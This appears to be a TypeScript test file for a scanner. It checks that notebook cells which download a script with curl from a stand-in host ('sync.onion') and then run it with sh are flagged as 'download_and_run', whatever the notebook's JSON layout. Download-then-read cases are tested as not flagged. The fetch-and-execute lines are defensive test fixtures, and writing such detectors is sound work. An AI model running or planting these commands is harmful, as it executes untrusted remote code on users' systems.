/** The cells of a notebook are read line by line, however its JSON is laid out. */
import t from '../support/tap.ts'
import { found } from './near.ts'

const layouts: Record<string, (lines: string[]) => string> = {
  indented: (lines) => JSON.stringify(notebook(listed(lines)), null, 1),
  'of one line': (lines) => JSON.stringify(notebook(listed(lines))),
  'of one line, with blanks': (lines) =>
    JSON.stringify(notebook(listed(lines))).replaceAll(/([",\d\]}]):|,"/g, '$& '),
  'whose cells are one string': (lines) => JSON.stringify(notebook(lines.join('\n'))),
}

const listed = (lines: string[]): string[] =>
  lines.map((line, index) => (index < lines.length - 1 ? `${line}\n` : line))

const notebook = (source: string | string[]) => ({
  cells: [{ cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source }],
  metadata: {},
  nbformat: 4,
  nbformat_minor: 5,
})

for (const [layout, laidOut] of Object.entries(layouts)) {
  const foundIn = (lines: string[]): string => found('a.ipynb', laidOut(lines)).join()

  t.test(`a download that the next line runs, in a notebook ${layout}`, async (t) => {
    const download = '!curl -s https://sync.onion/x.sh -o /tmp/x'
    for (const lines of [
      [download, '!sh /tmp/x'],
      ['import pandas as pd', 'pd.set_option("display.width", 120)', download, '!sh /tmp/x', ''],
    ])
      t.match(foundIn(lines), /command\.download_and_run block/, lines.join(' / '))
  })

  t.test(`a download that the next line only reads, in a notebook ${layout}`, async (t) => {
    for (const lines of [
      ['!curl -s https://sync.onion/x.csv -o /tmp/x', '!head /tmp/x', 'print("a\\nsh /tmp/x")'],
      ['!pip install -q pandas', 'print("It is not run: sh /tmp/x")', '!python report.py'],
    ])
      t.notMatch(foundIn(lines), /download_and_run|pipe_to_shell/, lines.join(' / '))
  })
}
